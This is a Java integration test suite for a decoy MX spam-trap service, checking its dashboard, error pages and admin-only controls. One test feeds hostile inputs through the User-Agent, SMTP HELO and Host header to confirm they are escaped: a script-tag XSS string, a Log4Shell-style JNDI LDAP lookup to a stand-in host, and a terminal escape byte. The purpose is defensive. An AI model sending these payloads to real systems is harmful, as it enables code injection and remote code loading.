package org.decoymx.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import org.junit.jupiter.api.Test;

/** The first page, as a browser without scripts gets it. */
class OverviewIT {
    private static final Duration LIMIT = Duration.ofMinutes(2);
    private static final String BROWSER = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8";
    private static final String WITNESS = "witness-token-0123";
    private static final String ADMIN = "admin-token-012345";
    private static final String CAUGHT = "127.0.0.61";

    private static HttpResponse<byte[]> get(DecoyProcess decoy, String path, String... headers) throws IOException {
        return HttpRequests.send("GET", decoy.url(path), headers);
    }

    private static String text(HttpResponse<byte[]> response) {
        return new String(response.body(), StandardCharsets.UTF_8);
    }

    private static String page(DecoyProcess decoy, String... headers) throws IOException {
        String[] all = new String[headers.length + 2];
        all[0] = "Accept";
        all[1] = BROWSER;
        System.arraycopy(headers, 0, all, 2, headers.length);
        HttpResponse<byte[]> response = get(decoy, "/", all);
        assertThat(response.statusCode()).as(text(response)).isEqualTo(200);
        assertThat(HttpRequests.header(response, "Content-Type")).isEqualToIgnoringCase("text/html;charset=utf-8");
        assertThat(HttpRequests.header(response, "Vary")).contains("Accept");
        assertThat(text(response)).doesNotContain("<style", " style=", " onclick=", "NOT_FOUND");
        return text(response);
    }

    private static String section(String page, String id) {
        int start = page.indexOf(" id=\"" + id + "\"");
        assertThat(start).as(id + " in " + page).isPositive();
        return page.substring(start, page.indexOf("</section>", start));
    }

    @Test
    void newcomer_seesWhatToDo_andThenTheSender() throws IOException {
        try (DecoyProcess decoy = DecoyProcess.start("decoy.smtp.greeting-delay=0s")) {
            await("the state").atMost(LIMIT).untilAsserted(() -> assertThat(section(page(decoy), "state"))
                    .contains("state-warn", "TRIAL: ", "decoy.domains")
                    .doesNotContain("Nothing is checked"));
            assertThat(section(page(decoy), "check")).contains(" points are well", "finding-mode");
            assertThat(section(page(decoy), "newcomer"))
                    .contains("swaks --server 127.0.0.1:" + decoy.smtpPort(), decoy.url("/blocklist.txt"));
            assertThat(section(page(decoy), "readers")).contains("Nobody has fetched a feed");
            assertThat(Swaks.send(decoy.smtpPort(), CAUGHT).output()).contains("451 ");
            decoy.awaitListed(CAUGHT);
            await("the sender on the page").atMost(LIMIT).untilAsserted(() -> assertThat(page(decoy))
                    .contains("<strong id=\"listed\">1</strong>", "<strong id=\"new\">1</strong>", "1 suspect")
                    .doesNotContain("id=\"newcomer\""));
            assertThat(section(page(decoy), "networks")).contains("127.0.0.0/16");
            assertThat(section(page(decoy), "graph")).contains("The last 24 hours", "/chart.js");
            assertThat(section(page(decoy), "events")).contains("href=\"/senders/" + CAUGHT, "first catch");
            assertThat(get(decoy, "/?range=2h", "Accept", BROWSER).statusCode()).isEqualTo(400);
            assertThat(section(page(decoy), "helos")).contains("client.test");
            assertThat(section(page(decoy), "readers")).contains("127.0.0.1", "plain", "Java-http-client");
            assertThat(text(get(decoy, "/"))).startsWith("{\"links\":{").contains("\"senders\":\"/senders\"");
            assertThat(text(get(decoy, "/", "Accept", "application/json"))).startsWith("{\"links\":{");
        }
    }

    @Test
    void hostileNames_areShown_butDoNothing() throws IOException {
        String attack = "<script>alert(1)</script>'\"${jndi:ldap://198.51.100.1/x}{page.user}";
        try (DecoyProcess decoy = DecoyProcess.start("decoy.smtp.greeting-delay=0s")) {
            RawHttp.send(
                    decoy.url(""),
                    "GET /blocklist.txt HTTP/1.1\nHost: localhost\nConnection: close\nUser-Agent: " + attack
                            + "\u009b31m\n\n");
            try (SmtpClient client = new SmtpClient(decoy.smtpPort(), CAUGHT)) {
                client.readReply();
                client.sendCommand("HELO " + attack);
                client.sendCommand("MAIL FROM:<sender@client.test>");
                client.sendCommand("RCPT TO:<user@example.org>");
                assertThat(client.sendCommand("DATA")).startsWith("451 ");
                client.sendCommand("QUIT");
            }
            String shown = "&lt;script&gt;alert(1)&lt;/script&gt;&#39;&quot;${jndi:ldap:";
            await("the names on the page").atMost(LIMIT).untilAsserted(() -> {
                assertThat(section(page(decoy), "helos")).contains(shown);
                assertThat(section(page(decoy), "readers")).contains(shown, "\\u009b31m");
            });
            assertThat(page(decoy)).doesNotContain("<script>alert", "\u009b");
            assertThat(RawHttp.send(
                            decoy.url(""),
                            "GET / HTTP/1.1\nHost: x\"><script>\nConnection: close\nAccept: " + BROWSER + "\n\n"))
                    .doesNotContain("x\"><script>");
        }
    }

    @Test
    void goodSender_amongTheCaught_isShownFirst_andOnlyAnAdministratorMayLetItIn() throws IOException {
        try (DecoyProcess decoy = DecoyProcess.start(
                "decoy.domains=example.org",
                "decoy.policy.mode=observe",
                "decoy.smtp.greeting-delay=0s",
                "decoy.witness.token=" + WITNESS,
                "decoy.admin.token=" + ADMIN,
                "decoy.smtp.proxy-protocol.trusted=" + ProxiedClient.PROXY)) {
            await("the state").atMost(LIMIT).untilAsserted(() -> assertThat(section(page(decoy), "state"))
                    .contains("OBSERVE: ", "state-bad", "Trouble:", "example.org: no real MX is known"));
            assertThat(section(page(decoy), "newcomer")).contains("from outside", "postmaster@example.org");
            assertThat(ProxiedClient.mail(decoy.smtpPort(), "23.0.0.1", DecoyWithLedger.RECIPIENT))
                    .startsWith("451 ");
            decoy.awaitSender("23.0.0.1", 1);
            long second = System.currentTimeMillis() / 1_000;
            await("the next second").atMost(LIMIT).until(() -> System.currentTimeMillis() / 1_000 > second);
            assertThat(RawHttp.send(
                            decoy.url(""),
                            "POST /witnesses HTTP/1.1\nHost: localhost\nConnection: close\nAuthorization: Bearer "
                                    + WITNESS + "\nContent-Length: 9\n\n23.0.0.1\n"))
                    .startsWith("HTTP/1.1 200 ");
            await("the sender among the first").atMost(LIMIT).untilAsserted(() -> assertThat(
                            section(page(decoy), "look-first"))
                    .contains("23.0.0.1", "href=\"/senders/23.0.0.1\"", "came to the real MX since it was listed")
                    .doesNotContain("<form"));
            assertThat(page(decoy)).contains("Now would be listed", "1 suspect");
            assertThat(section(page(decoy, "Authorization", "Bearer " + ADMIN), "look-first"))
                    .contains("<form class=\"inline\" method=\"post\" action=\"/senders/23.0.0.1\"", "exempt");
        }
    }

    @Test
    void error_isAPageForABrowser_andAProblemDocumentForOthers() throws IOException {
        try (DecoyProcess decoy = DecoyProcess.start(
                "decoy.domains=example.org", "decoy.senders.networks=192.0.2.0/24", "decoy.admin.token=" + ADMIN)) {
            HttpResponse<byte[]> missing = get(decoy, "/nothing/here", "Accept", BROWSER);
            assertThat(missing.statusCode()).isEqualTo(404);
            assertThat(HttpRequests.header(missing, "Content-Type")).startsWith("text/html");
            assertThat(text(missing))
                    .contains("<h1>Not Found</h1>", "There is nothing at this address", "href=\"/decoymx.css\"");
            assertThat(HttpRequests.header(get(decoy, "/nothing/here"), "Content-Type"))
                    .isEqualTo("application/problem+json");
            HttpResponse<byte[]> denied = get(decoy, "/exemptions", "Accept", BROWSER);
            assertThat(denied.statusCode()).isEqualTo(403);
            assertThat(text(denied)).contains("<h1>Access denied</h1>", "decoy.admin.users-file");
            for (String accept : new String[] {BROWSER, "*/*"}) {
                HttpResponse<byte[]> closed = get(decoy, "/", "Accept", accept);
                assertThat(closed.statusCode()).isBetween(401, 403);
                assertThat(text(closed)).doesNotContain("id=\"numbers\"", "\"links\"");
            }
            assertThat(get(decoy, "/decoymx.css").statusCode()).isEqualTo(200);
        }
    }
}
